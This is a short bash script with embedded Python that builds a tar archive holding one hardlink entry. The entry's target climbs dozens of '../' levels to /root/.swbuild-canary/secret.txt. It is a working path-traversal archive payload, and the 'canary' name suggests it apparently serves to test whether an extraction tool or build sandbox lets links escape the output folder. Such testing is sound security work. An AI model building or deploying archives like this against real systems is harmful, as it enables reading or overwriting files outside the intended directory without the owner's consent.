#!/usr/bin/env bash
set -eu
python3 - <<'PY'
import tarfile, io
def data(t, name, content=b"pwned\n"):
    i = tarfile.TarInfo(name); i.size = len(content); t.addfile(i, io.BytesIO(content))
def link(t, name, target):
    i = tarfile.TarInfo(name); i.type = tarfile.SYMTYPE; i.linkname = target; t.addfile(i)
def hard(t, name, target):
    i = tarfile.TarInfo(name); i.type = tarfile.LNKTYPE; i.linkname = target; t.addfile(i)
def dir(t, name):
    i = tarfile.TarInfo(name); i.type = tarfile.DIRTYPE; i.mode = 0o755; t.addfile(i)
with tarfile.open("a.tar", "w", format=tarfile.GNU_FORMAT) as t:
    hard(t, "h", "../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../root/.swbuild-canary/secret.txt")
PY
